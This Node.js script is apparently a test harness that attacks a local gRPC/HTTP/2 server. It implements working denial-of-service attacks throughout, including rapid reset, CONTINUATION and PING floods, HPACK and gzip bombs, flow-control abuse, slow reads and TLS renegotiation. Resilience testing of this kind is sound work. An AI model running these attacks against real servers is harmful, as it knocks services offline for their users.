'use strict';

/**
 * A client that means harm: `node attacker.js ATTACK PORT`. It works at a fixed rate, a batch every 10 ms, connects again
 * when it is thrown out (at most 10 times in 100 ms), and ends with its parent.
 */
const net = require('node:net');
const tls = require('node:tls');
const { gzipSync } = require('node:zlib');

const [, , attack, port] = process.argv;
const BATCH_MS = 10;

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const SETTINGS = 4;
const HEADERS = 1;
const [END_STREAM, END_HEADERS] = [1, 4];

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

function uint32(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

function setting(identifier, value) {
  const bytes = Buffer.alloc(6);
  bytes.writeUInt16BE(identifier);
  bytes.writeUInt32BE(value, 2);
  return frame(SETTINGS, 0, 0, bytes);
}

function text(value, first) {
  const bytes = Buffer.from(value);
  if (bytes.length < 127) return Buffer.concat([Buffer.from([...first, bytes.length]), bytes]);
  const rest = bytes.length - 127;
  const length = [127, (rest & 127) | 128, ((rest >> 7) & 127) | 128, rest >> 14];
  return Buffer.concat([Buffer.from([...first, ...length]), bytes]);
}

/** POST, http, path and content-type, none of them remembered. */
function block(path) {
  const fields = [text(path, [0x04]), text('application/grpc', [0x0f, 0x10])];
  return Buffer.concat([Buffer.from([0x83, 0x86]), ...fields]);
}

const request = (id, path, flags = 0) => frame(HEADERS, END_HEADERS | flags, id, block(path));
const message = (id, body, flags = 0) =>
  frame(0, END_STREAM, id, Buffer.concat([Buffer.of(flags), uint32(body.length), body]));
const many = (count, make) => Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));
/** The field grpc-encoding, of a literal name, before its value. */
const GZIP_FIELD = [0, 13, ...Buffer.from('grpc-encoding')];
/** The largest message that is taken, in 4 KiB. */
const BOMB = gzipSync(Buffer.alloc(4 << 20));
const greeting = Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]);

/** What a batch does on one connection; `state` lives as long as the connection. */
const onOneConnection = {
  'rapid reset': (state) =>
    many(50, () => {
      const id = (state.id += 2);
      return Buffer.concat([request(id, '/test.Echo/Unary'), frame(3, 0, id, uint32(8))]);
    }),
  'resets that the server makes': (state) =>
    many(50, () => {
      const id = (state.id += 2);
      return Buffer.concat([request(id, '/test.Echo/Unary'), frame(8, 0, id, uint32(0))]);
    }),
  'CONTINUATION flood': (state) => {
    const begin = state.begun ? Buffer.alloc(0) : frame(HEADERS, 0, 1, Buffer.of(0x83));
    state.begun = true;
    return Buffer.concat([begin, many(100, () => frame(9, 0, 1, Buffer.alloc(1, 0x83)))]);
  },
  'header list without end': (state) => {
    const begin = state.begun ? Buffer.alloc(0) : frame(HEADERS, 0, 1, Buffer.of(0x83));
    state.begun = true;
    return Buffer.concat([
      begin,
      many(10, () => frame(9, 0, 1, text('x'.repeat(10_000), [0, 1, 0x61]))),
    ]);
  },
  'SETTINGS flood': () => many(200, (at) => setting(4, 1000 + at)),
  'PING flood': () => many(200, () => frame(6, 0, 0, Buffer.alloc(8))),
  'empty DATA flood': (state) => {
    const begin = state.begun ? Buffer.alloc(0) : request(1, '/test.Echo/Unary');
    state.begun = true;
    return Buffer.concat([begin, many(200, () => frame(0, 0, 1))]);
  },
  'HPACK bomb': (state) =>
    many(5, () => {
      const big = state.begun ? Buffer.alloc(0) : text('y'.repeat(3900), [0x40, 1, 0x62]);
      state.begun = true;
      const id = (state.id += 2);
      return frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        id,
        Buffer.concat([big, Buffer.alloc(10_000, 0xbe)]),
      );
    }),
  'table size tricks': (state) =>
    many(50, (at) => {
      const id = (state.id += 2);
      const sizes = Buffer.from([0x20, 0x3f, 0xe1, 0x1f]); // 0, then 4096
      const fill = text('z'.repeat(100 + at), [0x40, 1, 0x63]);
      return frame(HEADERS, END_HEADERS | END_STREAM, id, Buffer.concat([sizes, fill]));
    }),
  'windows of one byte': (state) => {
    const begin = state.begun ? Buffer.alloc(0) : setting(4, 1);
    state.begun = true;
    return Buffer.concat([begin, many(20, () => askForMuch(state))]);
  },
  'windows that overflow and turn negative': (state) =>
    Buffer.concat([
      many(5, () => askForMuch(state)),
      setting(4, 0x7fff_ffff),
      setting(4, 0),
      frame(8, 0, state.id, uint32(0x7fff_ffff)),
      frame(8, 0, state.id, uint32(0x7fff_ffff)),
    ]),
  'answers that nobody reads': (state) => {
    state.socket.pause();
    const begin = state.begun ? Buffer.alloc(0) : setting(4, 0x7fff_ffff);
    const window = state.begun ? Buffer.alloc(0) : frame(8, 0, 0, uint32(0x7000_0000));
    state.begun = true;
    return Buffer.concat([begin, window, many(20, () => askForMuch(state))]);
  },
  'answers that are read slowly': (state) => {
    // All windows are open, and 16 KiB are read in each batch.
    state.socket.pause();
    state.socket.read(16_384);
    const begin = state.begun ? [] : [setting(4, 0x7fff_ffff), frame(8, 0, 0, uint32(0x7000_0000))];
    state.begun = true;
    return Buffer.concat([...begin, many(20, () => askForMuch(state))]);
  },
  'gzip bombs': (state) => {
    // 20 at once, so that they are unpacked at the same time, twice a second.
    if (batches++ % 50 !== 0) return Buffer.alloc(0);
    const head = Buffer.concat([block('/test.Echo/Sink'), text('gzip', GZIP_FIELD)]);
    return many(20, () => {
      const id = (state.id += 2);
      return Buffer.concat([frame(HEADERS, END_HEADERS, id, head), message(id, BOMB, 1)]);
    });
  },
  'requests without end': (state) =>
    many(20, () => {
      const id = (state.id += 2);
      // A message of 4 MiB is announced, and begun.
      const begun = Buffer.concat([Buffer.of(0), uint32(4 << 20), Buffer.alloc(8000)]);
      return Buffer.concat([request(id, '/test.Echo/Unary'), frame(0, 0, id, begun)]);
    }),
  'WINDOW_UPDATE flood': () => many(200, () => frame(8, 0, 0, uint32(1))),
  'PRIORITY flood': () => many(200, (at) => frame(2, 0, 2 * at + 1, Buffer.from([0, 0, 0, 0, 9]))),
};

function askForMuch(state) {
  const id = (state.id += 2);
  return Buffer.concat([request(id, '/test.Echo/Spread'), message(id, Buffer.of(1))]);
}

/** What a batch does with connections of its own. */
const onManyConnections = {
  'half-closed idlers': () => {
    if (open.size > 300) return;
    const socket = connection();
    socket.end(Buffer.concat([greeting, request(1, '/test.Echo/Unary')]));
  },
  'frames that trickle': () => {
    if (open.size < 300) connection().write(greeting);
    // A byte of each connection in ten batches.
    const turn = batches++ % 10;
    [...open].forEach((socket, at) => {
      if (at % 10 === turn) socket.write(Buffer.of(0));
    });
  },
  'handshakes that are cut': () => {
    for (let count = 0; count < 5; count++) {
      connection().end(Buffer.from([0x16, 3, 1, 0, 200, 1, 0, 0, 196, 3, 3]));
    }
  },
  'connect and close': () => {
    for (let count = 0; count < 5; count++) {
      const socket = connection();
      socket.on('connect', () => socket.resetAndDestroy());
    }
  },
  'new TLS keys again and again': () => {
    if (open.size > 10) return;
    const socket = tls.connect({
      port: Number(port),
      host: '127.0.0.1',
      rejectUnauthorized: false,
      maxVersion: 'TLSv1.2',
    });
    watch(socket);
    socket.on('secureConnect', () => {
      socket.write(greeting);
      const again = () => {
        if (!socket.destroyed) socket.renegotiate({ rejectUnauthorized: false }, again);
      };
      again();
    });
  },
};

const open = new Set();

function watch(socket) {
  open.add(socket);
  socket.on('error', () => undefined);
  socket.on('close', () => open.delete(socket));
  socket.resume();
  return socket;
}

const connection = () => watch(net.connect(Number(port), '127.0.0.1'));

let current;
let connections = 0;
let batches = 0;

function batchOnOne(make) {
  if (current === undefined || current.socket.destroyed) {
    if (connections++ % 10 === 9) return; // thrown out again: rests for one batch in ten
    current = { socket: connection(), id: -1 };
    current.socket.write(greeting);
  }
  // A server that does not read is not buried in this process's memory.
  if (current.socket.writableLength < 1_000_000) current.socket.write(make(current));
}

const alone = onOneConnection[attack];
const batch = alone === undefined ? onManyConnections[attack] : () => batchOnOne(alone);
if (batch === undefined) throw new Error(`no attack is called ${attack}`);
setInterval(batch, BATCH_MS);
process.on('disconnect', () => process.exit(0));

module.exports = { attacks: [...Object.keys(onOneConnection), ...Object.keys(onManyConnections)] };
